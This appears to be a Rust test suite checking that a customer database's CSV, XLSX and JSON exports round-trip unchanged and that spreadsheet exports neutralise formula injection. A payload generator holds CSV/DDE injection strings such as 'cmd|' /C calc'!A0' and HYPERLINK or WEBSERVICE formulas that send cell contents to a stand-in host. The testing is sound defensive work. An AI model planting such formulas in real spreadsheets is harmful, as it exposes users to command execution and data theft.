//! Export → import says nothing new, for customers made of the oddest values that a book can hold.

use crate::exchange::block::Block;
use crate::exchange::columns;
use crate::exchange::csv_out::{CsvOut, Readers};
use crate::exchange::decode::{Turn, open_bytes};
use crate::exchange::draft::{RowDraft, draft_block};
use crate::exchange::headers::is_known;
use crate::exchange::json_out::JsonOut;
use crate::exchange::mapping::{self, Mapping, Origin};
use crate::exchange::table::Table;
use crate::exchange::update::{Rule, edits};
use crate::exchange::xlsx_out::XlsxOut;
use crate::model::customer;
use crate::model::entity::Entity;
use crate::model::field::Class;
use crate::model::id::Id;
use crate::model::importing::{ImportWishes, LayoutWish};
use crate::model::kind::{DateOrder, Kind};
use crate::model::path::Path;
use crate::model::record::Record;
use crate::model::value::Value;

const ODD: &[&str] = &[
    "Ana",
    "O'Neil",
    "'quoted",
    "'=1+1",
    "=SUM(A1)",
    "+1 555 0100",
    "-",
    "@home",
    "a;b",
    "a; b",
    "a, b",
    "\"",
    "\"\"",
    "say \"hi\"",
    "\"Bud\" Ray",
    "x12",
    "555-0100 x12",
    "Mobile",
    "Mobile 555-0100",
    "Home: 5",
    "Núñez",
    "Žižek",
    "李小龙",
    "👩‍🔧 shop",
    "שלום\u{202B}abc\u{202C}",
    "tab\there",
    "one\ntwo",
    "1,2,3\n4,5,6",
    "\n leading",
    "   indented",
    "a|b|c",
    "1980-02-29",
    "02-29",
    "31.02.1980",
    "yes",
    "maybe",
    "8.25",
    "not a number",
    "12:30",
    "2026-11-23 14:30",
    "ana@x.co",
    "a@x.co, b@x.co",
    "no mail",
    "555-0100/555-0101",
    "410-590-7347, 410-863-8454",
    "regulars_id",
    "sep=;",
    "name,phone",
    "NULL",
    "\u{FEFF}bom",
    "ﬃ ligature",
    "e\u{301} combined",
    "line\u{2028}separator",
    "\u{FFFD} lost",
];

/// A small generator of pseudo-random numbers (Marsaglia's xorshift64), so that a seed names a case.
struct Random(u64);

impl Random {
    fn below(&mut self, limit: usize) -> usize {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        (self.0 % limit as u64) as usize
    }

    fn value(&mut self, kind: Kind) -> Option<Value> {
        let text = ODD[self.below(ODD.len())];
        if kind == Kind::Time {
            return Some(Value::Time(self.below(2_000_000_000_000) as i64));
        }
        if kind == Kind::Note && self.below(3) == 0 {
            let lines: Vec<&str> = (0..self.below(90)).map(|_| ODD[self.below(ODD.len())]).collect();
            return kind.parse(&lines.join("\n"), DateOrder::MonthFirst).unwrap();
        }
        match kind.parse(text, DateOrder::MonthFirst) {
            Ok(value) => value,
            Err(_) => Some(Value::AsTyped(text.trim().to_owned())),
        }
    }

    fn record(&mut self, count: u8) -> Record {
        let id = Id::from_parts(1_700_000_000_000 + u64::from(count), [count; 10]);
        let mut record = Record::new(Entity::Customer, id);
        record.set(Path::field(customer::NUMBER), Some(Value::Whole(1001 + i64::from(count))));
        let mut next_item = 1;
        for field in columns::fields(&Class::ALL) {
            if !field.is_list() {
                if self.below(3) > 0 {
                    let value = self.value(field.kind);
                    record.set(Path::field(field.number), value);
                }
                continue;
            }
            let from = next_item;
            for _ in 0..self.below(4) {
                for part in field.parts() {
                    if self.below(4) > 0 {
                        let value = self.value(part.kind);
                        record.set(Path::part(field.number, next_item, part.number), value);
                    }
                }
                next_item += 1 + self.below(2) as u16;
            }
            let items = record.items(field.number);
            let primary = match field.number {
                customer::PHONE => customer::PHONE_PRIMARY,
                customer::EMAIL => customer::EMAIL_PRIMARY,
                _ => continue,
            };
            if !items.is_empty() && self.below(2) == 0 {
                let item = items[self.below(items.len())].max(from);
                record.set(Path::field(primary), Some(Value::Whole(i64::from(item))));
            }
        }
        record
    }
}

fn export(records: &[Record]) -> Vec<u8> {
    export_for(Readers::Programs, records)
}

fn export_for(readers: Readers, records: &[Record]) -> Vec<u8> {
    let mut csv = CsvOut::new(Vec::new(), columns::fields(&Class::ALL), readers).unwrap();
    for record in records {
        csv.write(record).unwrap();
    }
    csv.finish().unwrap()
}

fn import(bytes: &[u8]) -> (Mapping, Vec<RowDraft>) {
    let source = open_bytes("export.csv", bytes.to_vec()).unwrap();
    drafts_of(Table::from_source(source, LayoutWish::default(), &is_known).unwrap())
}

fn drafts_of(mut table: Table) -> (Mapping, Vec<RowDraft>) {
    let mapping = mapping::map(&table, &[], DateOrder::MonthFirst, &ImportWishes::default()).unwrap();
    let mut drafts = Vec::new();
    let mut block = Block::default();
    while table.fill(&mut block, 10).unwrap() == Turn::More {
        drafts.extend(draft_block(&block, &mapping));
    }
    drafts.extend(draft_block(&block, &mapping));
    (mapping, drafts)
}

#[test]
fn imp_07_an_export_read_back_says_nothing_new() {
    for seed in 1..=150_u64 {
        let mut random = Random(seed.wrapping_mul(0x9E37_79B9_7F4A_7C15));
        let records: Vec<Record> = (0..20).map(|count| random.record(count)).collect();
        for readers in [Readers::Programs, Readers::Spreadsheets] {
            assert_same(&records, &import(&export_for(readers, &records)), &format!("seed {seed}, {readers:?}"));
        }
    }
}

/// Writes the records as a workbook and reads it back; the file is gone behind it.
fn by_workbook(records: &[Record]) -> (Mapping, Vec<RowDraft>) {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("export.xlsx");
    let mut xlsx = XlsxOut::new(Vec::new(), columns::fields(&Class::ALL)).unwrap();
    for record in records {
        xlsx.write(record).unwrap();
    }
    std::fs::write(&path, xlsx.finish().unwrap()).unwrap();
    drafts_of(Table::open(&path, LayoutWish::default(), &is_known).unwrap())
}

fn assert_same(records: &[Record], (mapping, drafts): &(Mapping, Vec<RowDraft>), case: &str) {
    assert_eq!((mapping.origin, mapping.unmapped()), (Origin::OurOwn, vec![]), "{case}");
    assert_eq!(drafts.len(), records.len(), "{case}");
    let fields = mapping.fields();
    for (record, draft) in records.iter().zip(drafts) {
        assert_eq!((draft.id, draft.number), (Some(record.id), Some(customer::number(record))));
        let edits = edits(record, draft, &fields, Rule::Mirror);
        assert!(edits.is_empty(), "{case}, {:.2000}", format!("{} of {edits:?}, {record:?}\n{draft:?}", edits.len()));
    }
}

#[test]
fn imp_07_a_workbook_read_back_says_nothing_new() {
    for seed in 1..=60_u64 {
        let mut random = Random(seed.wrapping_mul(0x9E37_79B9_7F4A_7C15));
        let records: Vec<Record> = (0..20).map(|count| random.record(count)).collect();
        assert_same(&records, &by_workbook(&records), &format!("seed {seed}"));
    }
}

/// Beginnings, formulas and ends of what people send to be run, all with all.
fn payloads() -> Vec<String> {
    let before = ["", " ", "\t", "\r", "'", "\"", "''", "a;", "\n", "\u{A0}", "\u{200B}"];
    let signs = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "=-", "@="];
    let bodies = [
        "1+1",
        "SUM(1;2)",
        "cmd|' /C calc'!A0",
        "HYPERLINK(\"http://a.example?x=\"&A1,\"click\")",
        "IMPORTXML(\"http://a.example\",\"//a\")",
        "DDE(\"cmd\";\"/C calc\";\"x\")",
        "WEBSERVICE(\"http://a.example\")",
        "2+5+cmd|' /C calc'!A0",
        "A1",
        "1;=2",
    ];
    let ends = ["", ",=2"];
    let mut all = Vec::new();
    for (before, sign) in before.iter().flat_map(|before| signs.iter().map(move |sign| (before, sign))) {
        all.extend(bodies.iter().flat_map(|body| ends.iter().map(move |end| format!("{before}{sign}{body}{end}"))));
    }
    all
}

#[test]
fn imp_07_two_thousand_formulas_come_back_as_they_were_and_none_can_run() {
    let payloads = payloads();
    assert!(payloads.len() >= 2_000, "{}", payloads.len());
    let record = |(count, text): (usize, &String)| {
        let mut record = Record::new(Entity::Customer, Id::from_parts(count as u64, [7; 10]));
        record.set(Path::field(customer::NUMBER), Some(Value::Whole(1001 + count as i64)));
        for (field, kind) in [(customer::FIRST_NAME, Kind::Name), (customer::NOTES, Kind::Note)] {
            let value = kind.parse(text, DateOrder::MonthFirst);
            record.set(Path::field(field), value.unwrap_or_else(|_| Some(Value::AsTyped(text.trim().to_owned()))));
        }
        record
    };
    let records: Vec<Record> = payloads.iter().enumerate().map(record).collect();
    let file = export_for(Readers::Spreadsheets, &records);
    assert_same(&records, &import(&file), "guarded");
    assert_same(&records, &by_workbook(&records), "a workbook");
    let mut cells = csv::Reader::from_reader(file.as_slice());
    for row in cells.records() {
        for cell in &row.unwrap() {
            assert!(!cell.trim_start().starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']), "{cell:?}");
        }
    }
}

#[test]
fn imp_07_a_text_longer_than_a_cell_comes_back_whole() {
    let check = |note: &str| {
        let records = [7, 8].map(|count| {
            let mut record = Record::new(Entity::Customer, Id::from_parts(1, [count; 10]));
            record.set(Path::field(customer::NUMBER), Some(Value::Whole(1001)));
            record.set(Path::field(customer::NOTES), Some(Value::Text(note.to_owned())));
            record
        });
        assert_same(&records, &by_workbook(&records), &note[..20]);
    };
    check("A long story of a tremolo.\n".repeat(3_700).trim_end());
    check(&"_x000D_ is no line end 🦀.".repeat(3_900));
}

#[test]
fn imp_07_a_changed_cell_of_an_export_is_one_edit() {
    let mut record = Record::new(Entity::Customer, Id::from_parts(1, [7; 10]));
    record.set(Path::field(customer::FIRST_NAME), Some(Value::Text("Ana".to_owned())));
    record.set(Path::field(customer::CITY), Some(Value::Text("Ulm".to_owned())));
    let text = String::from_utf8(export(std::slice::from_ref(&record))).unwrap();
    let (mapping, drafts) = import(text.replace(",Ana,", ",Anna,").replace(",Ulm,", ",,").as_bytes());
    let edits = edits(&record, &drafts[0], &mapping.fields(), Rule::Mirror);
    let changes: Vec<(u16, Option<&Value>)> = edits.iter().map(|edit| (edit.path.field, edit.after.as_ref())).collect();
    assert_eq!(changes, [(customer::FIRST_NAME, Some(&Value::Text("Anna".to_owned()))), (customer::CITY, None)]);
}

#[test]
fn imp_09_json_has_every_field_by_its_key() {
    let mut random = Random(0x1234_5678_9ABD);
    let record = random.record(3);
    let mut json = JsonOut::new(Vec::new(), columns::fields(&Class::ALL));
    json.write(&record).unwrap();
    let line = String::from_utf8(json.finish().unwrap()).unwrap();
    assert_eq!(line.lines().count(), 1);
    let read: serde_json::Value = serde_json::from_str(&line).unwrap();
    assert_eq!((read["id"].as_str(), read["number"].as_u64()), (Some(record.id.to_string().as_str()), Some(1004)));
    for field in columns::fields(&Class::ALL) {
        assert!(read.get(field.key).is_some(), "{}", field.key);
    }
    let phones = read["phones"].as_array().unwrap();
    assert!(!phones.is_empty(), "this seed makes phones");
    assert_eq!(phones.len(), customer::phones(&record).len());
    assert_eq!(phones[0]["number"].as_str().unwrap_or(""), customer::primary_phone(&record));
    assert_eq!(read["phone"], phones[0]["number"]);
}
